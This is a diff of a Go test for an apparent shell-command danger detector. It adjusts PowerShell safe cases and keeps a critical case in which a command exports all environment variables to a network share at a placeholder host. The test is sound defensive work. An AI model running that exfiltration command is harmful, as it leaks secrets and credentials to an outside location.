@@ -714,5 +714,5 @@ func TestSecretsExportedToShares(t *testing.T) {
 	checkDanger(t, d, ps, []dangerCase{
 		{`Get-ChildItem Env: | Export-Clixml \\files.example.net\drop\e.xml`, CategoryExfiltration, "win-exfil-secrets", LevelCritical},
 	})
-	checkSafe(t, d, ps, []string{`Get-Process | Export-Csv \\files.example.net\drop\procs.csv`, `Get-ChildItem Env: | Export-Csv .\env-names.csv`})
+	checkSafe(t, d, ps, []string{`Get-Process | Export-Csv \\files.example.net\drop\procs.csv`, `Get-ChildItem Env: | Select-Object Name | Export-Csv .\env-names.csv`})
 }
